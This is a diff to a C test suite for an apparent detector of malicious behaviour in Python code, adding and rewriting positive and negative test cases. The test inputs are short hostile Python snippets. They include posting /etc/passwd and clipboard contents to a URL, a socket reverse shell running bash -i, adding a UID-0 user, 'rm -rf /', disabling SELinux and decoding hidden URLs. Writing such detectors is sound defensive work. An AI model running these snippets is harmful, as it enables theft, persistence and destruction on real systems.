@@ -94,6 +94,11 @@ static void steals(void)
 	CHECK(shows("import platform, socket, requests\nd = {'h': "
 		    "socket.gethostname()}\nrequests.get(u, params=d)",
 		    MPY_BEH_HOST_SEND, 3));
+	/* asking for one's address sends nothing, sending the answer does */
+	CHECK(lacks("import requests\nrequests.get('https://ident.me')",
+		    MPY_BEH_HOST_SEND));
+	CHECK(shows("import requests\na = requests.get('https://ident.me')\n"
+		    "requests.post(u, data=a.text)", MPY_BEH_HOST_SEND, 3));
 	CHECK(shows("import requests\nw = 'https://discord.com/api/webhooks/"
 		    "1/x'\nrequests.post(w, json=d)", MPY_BEH_WEBHOOK_SEND,
 		    3));
@@ -218,7 +223,7 @@ static void encrypts(void)
 	}
 	for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++) {
 		snprintf(text, sizeof(text), "%s%s", head, ordinary[i]);
-		CHECK(!shows(text, MPY_BEH_ENCRYPT_FILES, 0));
+		CHECK(lacks(text, MPY_BEH_ENCRYPT_FILES));
 	}
 }
 
@@ -344,7 +349,13 @@ static void told_by_tables(void)
 	CHECK(is_ordinary("import os\nos.chmod(p, 0o755)"));
 	CHECK(shows("open('/etc/passwd', 'a').write(l)", MPY_BEH_PERSIST_KEYS,
 		    1));
-	CHECK(is_ordinary("print(open('/etc/passwd').read())"));
+	CHECK(lacks("print(open('/etc/passwd').read())", MPY_BEH_SECRET_READ));
+	CHECK(shows("import requests\nd = open('/etc/passwd').read()\n"
+		    "requests.post(u, data=d)", MPY_BEH_SECRET_SEND, 3));
+	CHECK(lacks("import os\nos.system('useradd -m bob')",
+		    MPY_BEH_PERSIST_KEYS));
+	CHECK(shows("import os\nos.system('useradd -ou 0 bob')",
+		    MPY_BEH_PERSIST_KEYS, 2));
 	CHECK(shows("import pyperclip, requests\n"
 		    "requests.post(u, data=pyperclip.paste())",
 		    MPY_BEH_CLIPBOARD_SEND, 2));
@@ -519,10 +530,10 @@ static void by_other_means(void)
 		    "with open(p, 'wb') as f:\n"
 		    "  f.write(base64.b64decode(blob()))\n"
 		    "subprocess.run([p])", MPY_BEH_DROP_START, 4));
-	CHECK(!shows("import base64, subprocess\n"
-		     "with open(p, 'wb') as f:\n"
-		     "  f.write(base64.b64decode(blob()))\n"
-		     "subprocess.run([p])", MPY_BEH_DOWNLOAD_START, 4));
+	CHECK(lacks("import base64, subprocess\n"
+		    "with open(p, 'wb') as f:\n"
+		    "  f.write(base64.b64decode(blob()))\n"
+		    "subprocess.run([p])", MPY_BEH_DOWNLOAD_START));
 	CHECK(shows("exec(''.join(map(chr, f())))", MPY_BEH_MADE_EXEC, 1));
 	CHECK(is_ordinary("import os\nlog = open('/var/log/x', 'a')\n"
 			  "os.dup2(log.fileno(), 1)"));
@@ -573,9 +584,9 @@ static void told_by_input(void)
 		    "  subprocess.Popen(['/bin/bash', '-i'], stdin=c, stdout=c)"
 		    "\ns = socket.socket()\ns.connect(a)\nsh(s)",
 		    MPY_BEH_RECV_RUN, 6));
-	CHECK(!shows("import base64, subprocess\n"
-		     "subprocess.run(['gpg', '-d'], input=base64.b64decode(x))",
-		     MPY_BEH_DECODE_RUN, 2));
+	CHECK(lacks("import base64, subprocess\n"
+		    "subprocess.run(['gpg', '-d'], input=base64.b64decode(x))",
+		    MPY_BEH_DECODE_RUN));
 }
 
 /* Addresses, paths and commands that are encoded, and texts that are not. */
@@ -592,16 +603,16 @@ static void hides_text(void)
 	CHECK(shows("s = ''\nfor c in [105, 117, 117, 113, 59, 46, 46, 121]:"
 		    "\n  s += chr(c ^ 1)\nget(s + '')",
 		    MPY_BEH_HIDDEN_TEXT, 4));
-	CHECK(!shows("u = '/'.join(['http://host', str(8000 + 1)])",
-		     MPY_BEH_HIDDEN_TEXT, 1));
-	CHECK(!shows("u = list(reversed(['https://x.invalid/a', 'b']))[1]",
-		     MPY_BEH_HIDDEN_TEXT, 1));
-	CHECK(!shows("u = 'http://x.invalid/{}'.format(n ^ 1)",
-		     MPY_BEH_HIDDEN_TEXT, 1));
-	CHECK(!shows("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
-		     MPY_BEH_HIDDEN_TEXT, 2));
-	CHECK(!shows("import base64\nt = base64.b64decode('aGVsbG8=')",
-		     MPY_BEH_HIDDEN_TEXT, 2));
+	CHECK(lacks("u = '/'.join(['http://host', str(8000 + 1)])",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("u = list(reversed(['https://x.invalid/a', 'b']))[1]",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("u = 'http://x.invalid/{}'.format(n ^ 1)",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("import base64\nt = base64.b64decode('aGVsbG8=')",
+		    MPY_BEH_HIDDEN_TEXT));
 }
 
 /* Commands word by word: what does harm is seen as in one text. */
@@ -617,23 +628,23 @@ static void as_lists(void)
 		    MPY_BEH_DEFENCE_OFF, 2));
 	CHECK(shows("import subprocess\nsubprocess.call(['rm', '-rf', '/'])",
 		    MPY_BEH_DESTROY, 2));
-	CHECK(!shows("import subprocess\nsubprocess.call(['rm', '-rf', d])",
-		     MPY_BEH_DESTROY, 2));
-	CHECK(!shows("import subprocess\nsubprocess.call(['crontab', '-l'])",
-		     MPY_BEH_PERSIST_CRON, 2));
+	CHECK(lacks("import subprocess\nsubprocess.call(['rm', '-rf', d])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import subprocess\nsubprocess.call(['crontab', '-l'])",
+		    MPY_BEH_PERSIST_CRON));
 	CHECK(shows("import subprocess\n"
 		    "subprocess.Popen(args=['setenforce', '0'])",
 		    MPY_BEH_DEFENCE_OFF, 2));
-	CHECK(!shows("import subprocess as s\n"
-		     "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
-		     MPY_BEH_DESTROY, 2));
-	CHECK(!shows("import subprocess\n"
-		     "subprocess.run(['rm', '-rf', '/bootstrap'])",
-		     MPY_BEH_DESTROY, 2));
-	CHECK(!shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
-		     "d.write(urllib2.urlopen(u).read())\n"
-		     "os.chmod(P, stat.S_IRUSR | stat.S_IWUSR)",
-		     MPY_BEH_DROP_CHMOD, 4));
+	CHECK(lacks("import subprocess as s\n"
+		    "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import subprocess\n"
+		    "subprocess.run(['rm', '-rf', '/bootstrap'])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import os, stat, urllib2\nd = open(P, 'wb')\n"
+		    "d.write(urllib2.urlopen(u).read())\n"
+		    "os.chmod(P, stat.S_IRUSR | stat.S_IWUSR)",
+		    MPY_BEH_DROP_CHMOD));
 	CHECK(shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
 		    "d.write(urllib2.urlopen(u).read())\n"
 		    "os.chmod(P, os.stat(P).st_mode | stat.S_IEXEC)",
